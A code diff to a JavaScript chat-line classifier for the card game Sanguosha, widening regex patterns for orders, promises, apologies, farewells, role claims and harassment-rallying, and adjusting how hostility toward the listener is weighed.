 const ORDER = new RegExp("(?:悠|收|省|匀)着点|消停|老实点|安分点|别(?:再|急着|老)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|跳|救|浪|慌|急|装|闹|理|信|听|乱|上当)|不要(?:再|急着)?(?:打|杀|砍|拆|救|信|听|跳|乱)|(?:集火|先打|快打|一起打|都打|都去|打死|干掉|做掉|弄死|[摁按]死|(?<=[轮合]|^|去|给我)盯着(?=[^,.!?]{1,8}[打砍杀])|盯(?:住|死|紧)|围(?!观)|先杀|砍死|杀掉|收掉|秒了)|(?:^|[,!.\\s]|去|给我|帮我|快|先|来|都|号|公|你|请|赶紧|赶快|直接|必须|继续|大家|一起|再|倒是)(?:收了|收掉|打|杀|砍|拆|顺|乐|兵|捅|捶|揍|弄|办|控|保|护|救|打掉|拆掉|帮|盯|信|听(?!我一句|我说)|留|压|奶)(?![得的好算扰了过不法字听话笑命急情名])(?:一下|一手|一?刀|着|住)?(?:他|她|它|主|反|内|忠|我(?!们)|[一二三四五六七八九十\\d]{1,2}(?:号|$|[,.!?了啊吧])|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|开杀|(?:快|赶紧|你|去|先|给他)?用(?:南蛮|万箭|决斗|无懈|桃园|火攻|乐)|下一?个(?:就)?(?:是|打|杀|搞|收)?(?:他|她|主公|[一二三四五六七八九十\\d]{1,2}号|\\p{Script=Han}{2,4}$)|压上|先(?:收|做|办|宰|点|搞|灭|锤|弄)|留(?:着|个|张|一)?(?:桃|闪|无懈|杀|牌)|(?:快|赶紧|你|去|先|请)(?:跳|出牌|出杀|跑|上|动手|过|结束|开|装|挂|交|摸|弃)|^(?:上|冲|动手|开打|开干|撤|稳住|等等|等一下|听我的|跟我|交给我|闭嘴|住口|都别动|控(?:一)?手)|给(?:他|她|主公|[一二三四五六七八九\\d]号)(?:一?[个张颗])?(?:牌|装备|桃|闪|酒|一刀|点)|(?:快|先|都|一起|去|帮我|赶紧|谁来|必须|得)?救(?:救|一下)?(?:主公|主|他|她|[一二三四五六七八九\\d]+号|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|\\b(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|let's kill|listen|ignore|save|trust|believe)\\b", "u");
-const ORDER_EN = /^(?:if [^,]{1,20} then )?(?:(?:please|pls|now|ok|so|then|just|hey|everyone|everybody|guys|all|quick(?:ly)?|lord|seat \d+|player \d+|\d+|you|(?:can|could|will|would) (?:you|u|ya)(?: please| pls| just)?|you should|you must|you have to|we should|we must|we need to|go|come on|someone|somebody)[ ,]+)*(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|get|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|listen|ignore|save|trust|believe|take|give|go easy|take it easy|ease up|easy (?:on|with)|hold back|chill|be careful|wait(?= for|$|[,.!])|calm|shut|reveal|show|follow|steal|help)\b/;
+const ORDER_EN = /^(?:if [^,]{1,20} then )?(?:(?:please|pls|now|ok|so|then|just|(?:this|next) (?:turn|round)|u|hey|everyone|everybody|guys|all|quick(?:ly)?|lord|seat \d+|player \d+|\d+|you|(?:can|could|will|would) (?:you|u|ya)(?: please| pls| just)?|you should|you must|you have to|we should|we must|we need to|go|come on|someone|somebody)[ ,]+)*(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|get|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|listen|ignore|save|trust|believe|take|give|go easy|take it easy|ease up|easy (?:on|with)|hold back|chill|be careful|wait(?= for|$|[,.!])|calm|shut|reveal|show|follow|steal|help)\b/;
 const PROPOSE = /商量(?:个|件|一下|下)|谈(?:个|笔)价|成交(?:不|吗|么|没)|让(?:给)?我(?:行不|行吗|好不|吧|呗)|(?:人头|功劳)(?:让|给|归)我|咱(?:们|俩|仨)?先(?:弄|搞|收拾|办|做|灭|打)|(?:投|认输|投降)了?(?:吧|得了|算了)|停手(?:吧|好不|行不|行吗|怎么样|如何)|(?:我们|咱们|咱|咱俩|你我)(?:来|先|一起|联手|合作|结盟|都|可以|不如|要不|就|互)(?!.{0,2}(?:下班|吃|睡|回家|散))|合作|联手|结盟|联盟|停战|休战|议和|讲和|和解|互不(?:侵犯|打|动)|谈(?:个|笔)?(?:条件|交易|判)|做(?:个|笔)?交易|交易(?:吗|不|如何)|(?:要不(?!是|要(?:这么|那么|脸))|不如|何不|干脆|(?<!要么.*)要么(?!.*要么))(?!$)|再(?:来|开|玩|打)(?:一)?(?:局|把|盘)|下(?:一)?(?:局|把|盘)(?:还|再|继续|也)?(?:来|玩|打|约)|(?:你|您)(?:别|不)(?:打|动|杀|拆|碰)我.{0,4}我(?:也|就|便|保证)?(?:别|不|绝不)|(?:一起|先)(?:打|杀|集火|对付|收拾|灭)(?!谁|哪|几).{0,6}(?:吧|怎么样|如何|好吗|好不好|行吗|行不行|可好|呗)|\b(?:let's|lets|let us|shall we|how about|what about (?:we|a)|team up|ally|alliance|truce|(?<!(?:your|ur|big|the) )deal|cease ?fire|work together|join forces|if you (?:don't|dont|won't|spare|leave)|another (?:game|round)|one more (?:game|round)|play again|we (?:could|can|should) (?:all )?(?:work|team|focus|attack|kill|go))\b/;
-const PROMISE = new RegExp("我(?:就|便|可以|保证)*(?:饶|放)(?:了|过)?(?:你|您)(?!.{0,4}(?:吗|不))|(?<![把被让给对打砍杀拆顺跟向冲])我(?:们)?(?:现在|真的?|肯定|保证|发誓|答应(?:你)?|承诺|下(?:个|一)?(?:回合|轮)|这(?:个|一)?(?:回合|轮|局|把)|本(?:回合|轮)|以后|绝对|一定|肯定|也|就|可以|先|今后|接下来|全程|整局|永远|再也|就|都|再)*(?:不(?:会|再|可能)?|绝不|决不|再也不|保证不|永远不)(?:再|会|去|主动)*(?:打|杀|砍|拆|动|搞|碰|顺|针对|集火|乐|兵|惹|捅|害|追|盯)|(?:这|下|本)(?:个|一)?(?:回合|轮|局|把)(?:我)?(?:绝对|保证|肯定|一定)?不(?:会)?(?:打|杀|砍|拆|动|碰|顺)(?:你|他|她|主|[一二三四五六七八九\\d])|我(?:保证|发誓|答应你?|承诺|一定|肯定|必|定|下(?:个|一)?(?:回合|轮)|这(?:就|回合|轮)|马上|来|会|帮你|替你|去|先|要)*(?:会|来|去|帮你|替你|给你|要)*(?:救|保|护|罩|挡|打|杀|砍|拆|集火|收拾|干掉|灭|留)(?!了|过|的|掉[一二两三\\d]|得|错|电话|着?字|算|赌|牌)(?:护|着|住)?(?:你|您|他|她|主公|主|[一二三四五六七八九十\\d]{1,2}号?|\\p{Script=Han}{2,4})|(?:包在我身上|一言为定|说话算话|君子一言|我发誓(?!.*(?:忠|反|内|好人)))|\\bi(?:'ll| will| won't| wont| will not| promise| swear|'m going to| am going to|'m gonna| gonna| would never|'d never)\\b(?!.*\\b(?:loyal|rebel|traitor|regret)\\b).{0,24}\\b(?:attack|hit|kill|touch|hurt|target|save|help|protect|heal|cover|guard|spare|leave|go (?:for|after)|shoot|slash|keep|give|fight|finish|betray|be good)\\b|\\bi(?: promise|'ll promise| swear)\\b(?!.*\\b(?:loyal|rebel|traitor|good)\\b)|\\byou have my word\\b", "u");
+const PROMISE = new RegExp("我(?:就|便|可以|保证)*(?:饶|放)(?:了|过)?(?:你|您)(?!.{0,4}(?:吗|不))|(?<![把被让给对打砍杀拆顺跟向冲])我(?:们)?(?:现在|真的?|肯定|保证|发誓|答应(?:你)?|承诺|下(?:个|一)?(?:回合|轮)|这(?:个|一)?(?:回合|轮|局|把)|本(?:回合|轮)|以后|绝对|一定|肯定|也|就|可以|先|今后|接下来|全程|整局|永远|再也|就|都|再)*(?:不(?:会|再|可能)?|绝不|决不|再也不|保证不|永远不)(?:再|会|去|主动)*(?:打|杀|砍|拆|动|搞|碰|顺|针对|集火|乐|兵|惹|捅|害|追|盯)|(?:这|下|本)(?:个|一)?(?:回合|轮|局|把)(?:我)?(?:绝对|保证|肯定|一定)?不(?:会)?(?:打|杀|砍|拆|动|碰|顺)(?:你|他|她|主|[一二三四五六七八九\\d])|我(?:保证|发誓|答应你?|承诺|一定|肯定|必|定|下(?:个|一)?(?:回合|轮)|这(?:就|回合|轮)|马上|来|会|帮你|替你|去|先|要)*(?:会|来|去|帮你|替你|给你|要)*(?:救|保|护|罩|挡|打|杀|砍|拆|集火|收拾|干掉|灭|留)(?!了|过|的|掉[一二两三\\d]|得|错|电话|着?字|算|赌|牌)(?:护|着|住)?(?:你|您|他|她|主公|主|[一二三四五六七八九十\\d]{1,2}号?|\\p{Script=Han}{2,4})|(?:我(?:就)?[给喂留]你(?:吃|留)?[个口张]?桃|我(?:的)?桃(?:就)?(?:留|给|归)|包在我身上|一言为定|说话算话|君子一言|我发誓(?!.*(?:忠|反|内|好人)))|\\bi(?:'ll| will| won't| wont| will not| promise| swear|'m going to| am going to|'m gonna| gonna| would never|'d never)\\b(?!.*\\b(?:loyal|rebel|traitor|regret)\\b).{0,24}\\b(?:attack|hit|kill|touch|hurt|target|save|help|protect|heal|cover|guard|spare|leave|go (?:for|after)|shoot|slash|keep|give|fight|finish|betray|be good)\\b|\\bi(?: promise|'ll promise| swear)\\b(?!.*\\b(?:loyal|rebel|traitor|good)\\b)|\\byou have my word\\b", "u");
 const HOLDING2 = /(?:手里|手上|手牌)?(?:还)?(?:有|没有?|只有|只剩|全是|捏着|留着|留了)(?:个|张|一张|一个|两张|两个|了)?(?:桃|闪|杀|无懈|酒|牌(?!太|真)|装备|南蛮|万箭|连弩|乐|兵|决斗|火攻)|\b(?:have|has|got|holding|hold|keeping) (?:no |an? |the |two |any |some )?(?:peach|dodge|slash|cards?|nullification|wine|weapon|crossbow)/;
 const HAND_ASKED = /手(?:里|上|头|中|牌)?(?:里)?.{0,6}(?:几|多少)多?[张个件颗]|(?:剩|有|留|拿|攥|捏|藏)(?:着|下|了)?(?:几|多少)多?[张件](?!反|忠|内)|[几两][张件](?:牌|手牌)?.{0,3}还?(?:剩|有)$|(?:几|多少)多?[张件].{0,3}还(?:剩|有)|手(?:里|上|头|中).{0,3}(?:是不是|有没有|该不会|不会|得有|肯定有).{0,4}(?:闪|桃|杀|无懈|酒|[一两二三四五六七八九几\d]张)|没牌还是|[揣攥捏藏捂]了?(?:一打|几|多少|一堆|一把)|数(?:给|来)我(?:看|听)|\bhow many (?:cards|peaches|dodges|strikes|slashes|nullif\w+)\b.{0,12}\b(?:you|u|he|she|they|left)\b|\bany (?:peach(?:es)?|dodges?|nullif\w+|wine) left\b|\bwhat'?s left in (?:there|your hand|hand)\b/;
 const IN_HAND = /\b(?:does|do|has|have) (?:\w+ ){1,3}?(?:have|got|hold|holding) (?:an? |any |the |another |\d )?(?:cards?|peach(?:es)?|dodges?|slash(?:es)?|strikes?|null\w*|wuxie|wine)\b|(?:手里|手上|兜里|怀里|手头).{0,8}(?:攥|捏|揣|藏|压|留|握)着|(?:手里|手上|手头)(?:就|只|还|可|真|都)?(?:剩|有|没有?)?[一两俩二三仨几\d]?[张个颗]?(?:桃|闪|杀|无懈|酒|aoe)|我就?剩[一两俩\d][张个颗](?:桃|闪|杀|无懈)|捏着.{0,4}(?:那|我)|[攥捏扣]了(?:几|多少|[一二两三四])[张个]|手(?:里|上|中|牌里?)(?:肯定|一定|八成|应该|还|就|都|绝对)*(?:有|没有?|捏|攥|留|握|藏|拿|揣|扣|压)(?:着|了|的)?.{0,4}(?:桃|闪|杀|无懈|酒|南蛮|万箭|连弩|乐|兵|决斗|火攻|牌)/;
 const THANKS = /救命之恩|没齿难忘|大恩|(?<![别甭]|不用|不必|谁要你)谢(?!幕|绝|顶|安|道|灵|玄)|感恩|感激|感谢|承让|有劳|多亏(?:你|您|了)|靠你了|辛苦(?:了|你)|\b(?:thx|thanks|thank|ty|tysm|cheers|much obliged|appreciate)\b/;
-const APOLOGY = /(?:多有|刚才|是我|我)?冒犯(?:了|到(?:你|您))(?!谁|主公|他|她)|别生(?:我)?气|消消气|别多心|别误会|我有罪|请罪|对不起|对不住|抱歉|不好意思|误伤|误会(?:一场|了你|你了)|(?<![得到])手[滑抖]|别(?:介意|往心里去)|点错|按错|打错(?:人|了)(?:.{0,3}$)|我(?:的)?错|我错了|错怪|怪我|见谅|原谅(?:我|一下)|多有得罪|得罪了(?!谁|多少|几|你|他|她|人|这|那)|失礼|失敬|不(?:该|应该)(?:那么|这么|那样|这样)?(?:说|骂|讲)你|(?:我|刚才?|刚刚)(?:是|的|这|我)*(?:嘴|话)(?:是|有点|确实|太|说得?)*(?:[重贱欠]|过分|过头)|是我(?:不对|不好|过分|过头)|赔(?:罪|个不是|礼)|别记(?:仇|恨)|(?:不是|没|并非)(?:冲|针对)(?:你|着你)|(?:纯|就是|只是)(?:试探|试一下|试试)|捎带(?:的|着|上)|看岔|看错了$|不是故意|不是有意|并非有意|无意(?:冒犯|伤你|伤)|没想(?:到会|伤|打|害)(?:你|伤)|sry|\b(?:soz|sorry|my bad|apolog\w*|my fault|oops|forgive me|(?:didn't|did not|didnt) mean (?:to|it|that)|i (?:was|went|crossed|got)(?: \w+)? (?:gross|rude|harsh|nasty|out of line|too far|the line)|(?:gross|rude|harsh|nasty|wrong) of me|won'?t (?:happen|do (?:it|that)|say (?:it|that)) again|no offen[cs]e|misclick(?:ed)?|by accident|accident(?:al)?ly)\b/;
+const APOLOGY = /(?:多有|刚才|是我|我)?冒犯(?:了|到(?:你|您))(?!谁|主公|他|她)|别生(?:我)?气|消消气|别多心|别误会|我有罪|请罪|对不起|对不住|抱歉|不好意思|误伤|误会(?:一场|了你|你了)|(?<![得到])手[滑抖]|别(?:介意|往心里去|放在?心上)|点错|按错|打错(?:人|了)(?:.{0,3}$)|我(?:的)?错|我错了|错怪|怪我|见谅|原谅(?:我|一下)|多有得罪|得罪了(?!谁|多少|几|你|他|她|人|这|那)|失礼|失敬|不(?:该|应该)(?:那么|这么|那样|这样)?(?:说|骂|讲)你|(?:我|刚才?|刚刚)(?:是|的|这|我)*(?:嘴|话)(?:是|有点|确实|太|说得?)*(?:[重贱欠]|过分|过头)|是我(?:不对|不好|过分|过头)|赔(?:罪|个不是|礼)|别记(?:仇|恨)|(?:不是|没|并非)(?:冲|针对)(?:你|着你)|(?:纯|就是|只是)(?:试探|试一下|试试)|捎带(?:的|着|上)|看岔|看错了$|不是故意|不是有意|并非有意|无意(?:冒犯|伤你|伤)|没想(?:到会|伤|打|害)(?:你|伤)|sry|\b(?:soz|sorry|my bad|apolog\w*|my fault|oops|forgive me|(?:didn't|did not|didnt) mean (?:to|it|that)|i (?:was|went|crossed|got)(?: \w+)? (?:gross|rude|harsh|nasty|out of line|too far|the line)|(?:gross|rude|harsh|nasty|wrong) of me|won'?t (?:happen|do (?:it|that)|say (?:it|that)) again|no offen[cs]e|misclick(?:ed)?|by accident|accident(?:al)?ly)\b/;
 const APOLOGY_NOT = /(?:总|该)?不会(?:也|又)?(?:还)?是.{0,2}手[滑抖误]|(?:又|也|还)是?手[滑抖]|手[滑抖](?:\?|呢$|吗|了\?)|(?:跟|给|向|和)我(?:说)?(?:道歉|对不起|赔)|道歉(?:吧|啊|!|了吗)|(?:道歉|歉意)(?:我)?(?:接受|收下|心领)|凭什么.*(?:道歉|原谅)|(?:不用|不必|别|干嘛)(?:说)?(?:道歉|抱歉|对不起|不好意思)|(?:怪我|我的错)(?:吗|咯|么)|\b(?:apology accepted|accept your apology|no need to (?:be sorry|apologi\w*)|don't (?:be sorry|apologi\w*)|sorry (?:for (?:you|your loss)|but)|say (?:you're )?sorry|apologi[sz]e(?: to me)?$|not sorry)\b/;
-const BYE = /拜拜|先撤|\bbrb\b|一路走好|走好(?:啊|不送|$)|慢走|^gg+$|下[把局]见|拜拜|拜了|再见|先走(?:了|一步)|下线|我?溜了|告辞|后会有期|(?<![头第上][一次回]*)回见|晚安|明天见|我?撤了|走了各位|不玩了|\b(?:bye|goodbye|cya|gtg|g2g|gotta (?:go|run)|heading out|see (?:you|ya)|good night|gn|farewell|later (?:all|guys)|i'm (?:leaving|off|out))\b|^88+$/;
+const BYE = /拜拜|先撤|\bbrb\b|一路走好|走好(?:啊|不送|$)|慢走|^gg+$|下[把局]见|拜拜|拜了|再见|先走(?:了|一步)|下线|我先?下了(?=$|[,啊哈哦])|我?溜了|告辞|后会有期|(?<![头第上][一次回]*)回见|晚安|明天见|我?撤了|走了各位|不玩了|\b(?:bye|goodbye|cya|gtg|g2g|gotta (?:go|run)|heading (?:out|off)|sleep tight|see (?:you|ya)|good night|gn|nite|farewell|later (?:all|guys)|i'm (?:leaving|off|out))\b|^88+$/;
 const GREET = /^(?:来[咯了啦]?|开[始整局了啦咯][了啦咯]?|走起|上号)+$|^(?:大家|各位|诸位|主公|你|您|兄弟们?|朋友们?|老铁们?)?(?:好啊?|们好|早|早安)[!,.~呀啊]?$|你好(?!菜|弱|烦|吵|慢|坏|毒|狠|厉害|强|牛|可爱|美|帅|了|像)|大家好|各位好|哈[喽啰罗]|^嗨|^喂$|早上好|早安|晚上好|下午好|中午好|幸会|久仰|^在(?:吗|么|不)|初次见面|请多(?:关照|指教)|\b(?:hello|hi|hey|yo|howdy|greetings|sup|what's up|good (?:morning|evening|day|afternoon)|nice to meet|glhf|hf)\b/;
 const PRAISE = /舒服|(?:补|开|拆|砍|打|懈|救|顺|杀)得(?:真|太|好|不错|漂亮|妙|准|舒服|有|可以)|有灵性|厉害|牛[逼比啊批哇掰]?$|^牛|真牛|太强|好强|真强|高手|大佬|大神|打得好|打的好|打得(?:真|太(?!像|假|演)|不错|漂亮|妙)|绝了|漂亮|秀(?:啊|$|了|的)|神了|神(?:操作|来之笔|算|预判)|6{1,}$|有点东西|佩服|干得好|干的好|干得漂亮|真棒|太棒|好样的|真行|可以啊|有(?:两下子|一手|水平|头脑|见识|眼光)|好(?:牌|棋|计|救|拆|杀|无懈|眼力|手气)|(?:真|太|好|很|这么)(?:聪明|机智|稳|猛|帅|会玩|妙|准|细)|英明|高明|明察秋毫|料事如神|义气|够意思|(?:救|保|无懈)得(?:好|漂亮|及时)|\b(?:nice|great|gj|wp|well played|good (?:job|one|play|game|call|move|eye|read)|gg|awesome|amazing|brilliant|impressive|well done|clever|smart|legend|you(?:'re| are) (?:good|great|the best|a genius))\b/;
 const BLAME = /缺德|干的好事|坑(?!了?(?:我们)?谁)|猪队友|你?是?猪(?:吗|啊|头)|都怪你|怪你|赖你|你害|害(?:死|惨)我|会不会玩|不会玩|怎么玩的|玩的什么|卖我|卖队友|出卖|背叛|忘恩负义|恩将仇报|过河拆桥的?(?:家伙|小人|东西)|乱打|瞎打|乱来|打错(?!了?$)|眼瞎|瞎了|没脑子|脑子(?:呢|进水|坏)|离谱|无语|服了(?!你的|,? ?厉害)|高血压|血压|脑溢血|搞笑的|送人头|白给|不讲(?:武德|理|信用)|没良心|白眼狼|见死不救|(?:为什么|怎么)不救|不救我|说话不算|食言|反悔|失信|骗(?:我|人|子)|撒谎|你(?:在)?(?:演|装)(?:什么|啥)|浪费|拖后腿|猪脑|带节奏|(?:太|真)(?:过分|坑|阴|狠|毒|脏|损)|\b(?:your fault|noob|idiot play|what are you doing|wtf|throwing|useless|bad play|terrible|blind|traitorous|backstabb\w*|you (?:lied|betrayed|promised|broke|ruined|left me|let me|didn't (?:save|help))|liar|how could you|not cool|unfair|blame you|trolling)\b/;
@@ -21540,22 +21541,39 @@ function callsOf(read, others) {
 	const family = COMPOUND.exec(whole.join(""))?.[0];
 	if (family !== void 0 && whole.length > family.length && !others.some((other) => other.includes(family)))
 		found.push(family);
+	const begins = whole.slice(0, SHORTEST).join("");
+	if (whole.length > 4 && HAN_ONLY.test(whole.join("")) && !others.some((other) => other.includes(begins)))
+		found.push(begins);
 	const first = whole.slice(0, whole.length / 2).join("");
 	if (TWO_HEROES.has(whole.length) && HAN_ONLY.test(first) && !others.some((other) => other.includes(first)))
 		found.push(first);
 	return found;
 }
 const SAID_OF_NAME = 3;
-const lastOf2 = (units) => TWO_HEROES.has(units.length) ? units : units.slice(-SAID_OF_NAME);
+function partsOf2(read) {
+	const whole = bare2(read);
+	const units = TWO_HEROES.has(whole.length) ? whole : [...whole.slice(0, 1), ...whole.slice(-SAID_OF_NAME)];
+	const family = Array.from(COMPOUND.exec(whole.join(""))?.[0] ?? "");
+	return { own: units.filter((one) => !family.includes(one)), family };
+}
 const NO_PET = /[忠反内主公奸贼臣大小老二三四五六七八九十一众诸各这那会点味好兄弟哥姐妹]/;
 const PET_BEFORE = "[老小阿]";
 const PET_AFTER = "(?:大哥|哥哥?|姐姐?|妹妹?|妹子|弟弟?|老弟|兄弟?|爷爷?|叔叔?|总|宝|酱|儿(?!子)|嫂|将军|大人|老板|公子|姑娘|美女|大佬|娘娘|夫人|先生|女士|老师(?![说让叫布])|师傅|大爷|大叔|大妈|大娘|阿姨|同学(?![们说让叫])|小姐姐?|小哥|小朋友|小子|老爷|丞相|老贼|狗贼|老弟|老哥|老姐|队长)(?!们)";
 const NO_SON = /[孙王妻儿女公太天君夫弟庄老孔孟荀曾朱谋杀桃包车刀骨曹面日房样牌鬼法骗条胆分种狮鸽李帽影]/;
 function petsOf(named) {
 	const seats = new Map();
-	for (const [, read, seat] of named)
-		for (const char of new Set(lastOf2(Array.from(read.replace(/\s+/g, "")))))
+	const add = (chars2, seat) => {
+		for (const char of new Set(chars2))
 			if (HAN_ONLY.test(char) && !NO_PET.test(char)) seats.set(char, (seats.get(char) ?? new Set()).add(seat));
+	};
+	const parts = named.map(([, read, seat]) => ({ ...partsOf2(read), seat }));
+	for (const { own, seat } of parts) add(own, seat);
+	const taken = new Set(seats.keys());
+	for (const { family, seat } of parts)
+		add(
+			family.filter((char) => !taken.has(char)),
+			seat
+		);
 	const owners = new Map([...seats].filter(([, of]) => of.size <= 2));
 	if (owners.size === 0) return { pet: "", petOf: () => null };
 	const surnames = new Map(named.map(([, read, seat]) => [seat, bare2(read)[0]]));
@@ -21614,11 +21632,17 @@ function spelledAt(seats) {
 				[[]]
 			);
 			const family = COMPOUND.test(call) ? 2 : 1;
-			return ways.flatMap((way) => writtenAs(way, family).map((name) => [name, seat]));
+			const titles = call === bare2(calls[0] ?? "").join("") ? TITLES : [];
+			return ways.flatMap(
+				(way) => [...writtenAs(way, family), ...titles.map((title) => `${title} ${way.slice(0, family).join("")}`)].map(
+					(name) => [name, seat]
+				)
+			);
 		})
 	);
 }
 const LONGEST_SPELLED = 4;
+const TITLES = ["lady", "madam", "general", "mr"];
 function writtenAs(syllables, family) {
 	const parted = [syllables.slice(0, family).join(""), syllables.slice(family).join("")].join(" ").trim();
 	return [...new Set([syllables.join(" "), syllables.join(""), parted])];
@@ -22291,9 +22315,9 @@ const ZH = [
 	["zhu", "主公"]
 ];
 const EN2 = [
-	["zhong", "loyal(?:ists?)?|on (?:your|the lord'?s?) (?:side|死de)|innocent|one of the good ones"],
-	["fan", "reb(?:el)?s?|bandits?"],
-	["nei", "traitors?|renegades?|spy|spies|turncoats?"],
+	["zhong", "loyal(?:ists?)?|on (?:your|the lord'?s?) (?:side|死de)|innocent|one of the good ones|zhong(?:chen)?"],
+	["fan", "reb(?:el)?s?|bandits?|fan(?:zei)?(?! of)"],
+	["nei", "traitors?|renegades?|spy|spies|turncoats?|nei(?:jian)?"],
 	["zhu", "lord"]
 ];
 const anyOf = (rows) => rows.map(([, words]) => words).join("|");
@@ -22304,7 +22328,7 @@ function roleOfWord(word) {
 	if (/^(?:装忠|伪忠)$/.test(word)) return "fan";
 	return TESTS.find(([, test]) => test.test(word))?.[0] ?? null;
 }
-const ANY_ROLE = /忠|反|内|自己人|好人|坏人|是主公|主公的人|仲臣|这边|\b(?:mz|fan)\b|loyal|rebel|\brebs?\b|bandit|traitor|renegade|spy|spies|turncoat|innocent|死de|(?:m|am|is) (?:the )?lord|good ones| side\b/;
+const ANY_ROLE = /忠|反|内|自己人|好人|坏人|是主公|主公的人|仲臣|这边|\b(?:mz|fan|fanzei|zhong|nei)\b|loyal|rebel|\brebs?\b|bandit|traitor|renegade|spy|spies|turncoat|innocent|死de|(?:m|am|is) (?:the )?lord|good ones| side\b/;
 const NEGATION_ZH = "不是|不像|不可能是|并非|绝非|并不是|绝不是|绝对不是|没跳|不算|不会是|怎么可能是|怎么会是|哪里是|哪是|非|不";
 const SOFT_ZH = "好像|像|偏|(?<!不)可能|应该|大概率?|多半|八成|十有八九|估计|似乎|怕是|恐怕|也许|或许|看着|看起来|看上去|疑似|有点|大约|基本|六四开";
 const FIRM_ZH = "铁定|铁|肯定|绝对|一定|必定|必然|必|妥妥的?|百分百|板上钉钉|稳|真的是|真的|真|确实|的确|明摆着|明显|准|定|发誓|明|强";
@@ -23578,10 +23602,10 @@ const THING_AFTER = new RegExp(
 const THING_BEFORE = new RegExp(
 	`(?:${FRAMES.THING}|玩法|策略|阵容|水平|手)(?:是|真|太|好|也|都|就|这么|怎么|真是|也太|简直|有点|属实|确实){0,3}$`
 );
-const DENIED4 = /(?:(?<!是)不是(?:故意|有意|成心|真)?|并非|没说|没有说|没骂|别骂|不要骂|不算|没|别说|别叫)(?:要|想)?(?:你|我|他|谁|人)?(?:是|叫|个)?$|\b(?:didn't mean to|not|isn't|aren't|never said) (?:you (?:are|were) )?(?:a |an )?$/;
+const DENIED4 = /(?:(?<!是)不是(?:故意|有意|成心|真)?|并非|没说|没有说|没骂|别骂|不要骂|不算|没|别说|别叫)(?:要|想)?(?:你|我|他|谁|人)?(?:是|叫|个)?$|\b(?:didn't mean to|not|isn't|aren't|never said) (?:you (?:are|were) )?(?:a |an )?$|\b(?<!you )(?<!u )(?:won'?t|wouldn'?t|doesn'?t|can'?t) (?:just |ever )?$/;
 const YOU2 = /你|您|\b(?:you|u|ur|your)\b/;
 const MENTION = /^(?:"|是什么意思|这个词|这俩字|怎么写|是骂人)/;
-function weigh6(line, finding) {
+function weigh6(line, finding, ofHearer) {
 	const { text } = line;
 	const words = text.slice(finding.start, finding.end);
 	const before = text.slice(Math.max(0, finding.start - 10), finding.start);
@@ -23597,6 +23621,7 @@ function weigh6(line, finding) {
 		about = lastNamed(text.slice(Math.max(0, finding.start - 24), finding.start));
 		if (about === "self" || about === "friend") about = "none";
 	}
+	if (ofHearer && about === "other" && !line.play) about = "none";
 	if (!addressed && !YOU2.test(words)) {
 		if (about === "self" && finding.kind === "curse" && !/滚|闭嘴/.test(words)) return { score: SELF_MOST, at: "none" };
 		if (about === "self" && finding.kind === "banter" && /菜|坑|蠢|笨|废|垃圾|没用|猪|憨|bad|noob|useless/.test(words))
@@ -23607,7 +23632,7 @@ function weigh6(line, finding) {
 	}
 	return { score: finding.weight, at: "you" };
 }
-function judgeHostility(line, opinion) {
+function judgeHostility(line, opinion, ofHearer = false) {
 	let hostile = 0;
 	let attack = 0;
 	let third = false;
@@ -23615,7 +23640,7 @@ function judgeHostility(line, opinion) {
 	let counted = 0;
 	for (const kind of ["curse", "personal", "gamecurse", "banter", "suspect"]) {
 		for (const finding of line.findings.get(kind) ?? []) {
-			const weighed = weigh6(line, finding);
+			const weighed = weigh6(line, finding, ofHearer);
 			const { at } = weighed;
 			let { score } = weighed;
 			if (kind === "gamecurse" && at === "you" && !line.game && !line.play && /去死/.test(line.text) && /你(?:怎么|就|给我|赶紧|快|还是|可以)?(?:不)?去死|去死吧?你/.test(line.text))
@@ -23690,6 +23715,7 @@ const AT_TABLE = /^ (?:in|on|at) (?:the |this )?(?:turn|order|seat|table|line)|^
 const CUED = 0.6;
 const THOUGHT2 = 0.65;
 const LONGEST_EVIDENCE = 40;
+const SETS_ON = /(?:(?:叫|喊|让|找|拉)(?:全[桌服群]|大家|所有人|一群人|兄弟们?)(?:来|一起|都|去[^,.!?]{0,5})*|(?:叫|喊|找)人(?:来|一起|去)+)(?:骂|喷|刷屏|举报|网暴|人肉|围攻)|\b(?:get|have|make|tell) (?:everyone|everybody|all|people|the (?:whole )?table|(?:all )?my \w+) (?:here )?(?:to )?(?:spam|report|flame|harass|dox|bully|insult)\b/;
 const strongest2 = (line, kind) => [...line.findings.get(kind) ?? []].sort((a, b) => b.weight - a.weight).slice(0, 2);
 const nearness = (stage) => NEARNESS[STAGES.indexOf(stage)] ?? 1;
 function binds(line, finding) {
@@ -23758,6 +23784,9 @@ function judgeCloseness(line, stage, relationship, opinion) {
 		result.overstep = Math.max(result.overstep, finding.weight);
 		result.binding.push(finding);
 	}
+	const setOn = SETS_ON.exec(line.text);
+	if (setOn && !line.quoted)
+		result.binding.push({ kind: "bind", weight: CUED, start: setOn.index, end: setOn.index + setOn[0].length });
 	const spoken = (line.findings.has("cue.near") || line.findings.has("cue.bind")) && /你|妳|您|\byou/.test(line.text);
 	if (result.tooFast.length === 0 && near < 5 && !line.play && cues(line, "cue.near") + (spoken ? 0.1 : 0) >= CUES_SPEAK && (spoken || /我/.test(line.text) || line.text.length < 12)) {
 		result.overstep = Math.max(result.overstep, CUED);
@@ -24285,11 +24314,13 @@ function judge2(perceived, ctx = {}, forced) {
 	const first = perceived.opinion(occasionOf(ctx));
 	const opinion = crisis.score >= MEDIUM ? besideCrisis(first) : first;
 	const security = judgeSecurity(line, opinion);
-	const hostility = judgeHostility(line, opinion);
+	const pointing = resolveReferences(line, ctx);
+	const self = ctx.table?.self;
+	const ofHearer = self !== void 0 && pointing.references.length > 0 && pointing.references.every(({ resolution }) => resolution.startsWith(`${self}号`));
+	const hostility = judgeHostility(line, opinion, ofHearer);
 	const closeness = judgeCloseness(line, stage, relationshipOf(ctx.relationship), opinion);
 	const verdict = direct(line, stage, closeness, hostility, security);
 	const moment = judgeMoment(line, ctx, opinion);
-	const pointing = resolveReferences(line, ctx);
 	const little = judgeEffort(
